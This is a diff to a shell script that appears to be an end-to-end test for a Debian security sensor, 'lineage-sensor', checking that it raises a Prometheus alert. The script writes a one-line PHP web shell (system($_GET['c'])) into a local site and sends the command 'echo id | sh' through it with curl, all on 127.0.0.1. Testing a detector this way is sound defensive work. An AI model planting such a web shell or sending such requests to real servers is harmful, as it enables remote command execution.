@@ -8,7 +8,7 @@
 # Needs Debian's nginx-light, php-fpm, prometheus, prometheus-alertmanager and curl. The
 # package stays installed (dpkg --purge lineage-sensor removes it without a trace); all
 # else is ended and removed. Everything listens on 127.0.0.1; the command that goes through
-# the hole is `id | sh`.
+# the hole is `echo id | sh`.
 set -eu
 
 PACKAGE=${1:?"usage: $0 PACKAGE.deb"}
@@ -35,7 +35,7 @@ until_true() { # what, command...
     shift
     until "$@" >"$DIR/said" 2>&1; do
         tries=$((tries + 1))
-        [ "$tries" -lt 120 ] || { cat "$DIR/said" "$DIR"/*.log >&2; fail "$what: not within a minute"; }
+        [ "$tries" -lt 120 ] || { tail -n 20 "$DIR/said" "$DIR"/*.log >&2; fail "$what: not within a minute"; }
         sleep 0.5
     done
 }
@@ -75,12 +75,13 @@ if [ -d /run/systemd/system ]; then
 else
     start sensor.log lineage-sensor run --config /etc/lineage-sensor/config.yaml --output json
 fi
-until_true "the sensor" answers "$SENSOR/readyz" ""
+until_true "the sensor" curl --silent --show-error --fail "$SENSOR/readyz"
 echo "$SENSOR/readyz says 200"
 
 step "a site with a hole"
 mkdir "$DIR/www"
 chmod 755 "$DIR" "$DIR/www"
+echo '<?php echo "pong"; ?>' >"$DIR/www/ping.php"
 echo '<?php system($_GET["c"]); ?>' >"$DIR/www/shell.php"
 cat >"$DIR/fpm.conf" <<END
 [global]
@@ -116,7 +117,7 @@ http {
 END
 start php-fpm.log "$FPM" --nodaemonize --fpm-config "$DIR/fpm.conf"
 start nginx.log nginx -c "$DIR/nginx.conf"
-until_true "the site" answers "http://127.0.0.1:$PORT/shell.php?c=:" ""
+until_true "the site" answers "http://127.0.0.1:$PORT/ping.php" pong
 lineage-sensor tree
 
 step "Prometheus and Alertmanager"
@@ -144,8 +145,8 @@ scraped() {
 until_true "two scrapes" scraped
 echo "$PROMETHEUS has scraped $SENSOR/metrics"
 
-step "attack: GET /shell.php?c=id | sh"
-curl --silent --show-error --fail --get --data-urlencode 'c=id | sh' \
+step "attack: GET /shell.php?c=echo id | sh"
+curl --silent --show-error --fail --get --data-urlencode 'c=echo id | sh' \
     "http://127.0.0.1:$PORT/shell.php" || fail "the page did not answer"
 
 step "the alert, from the history"
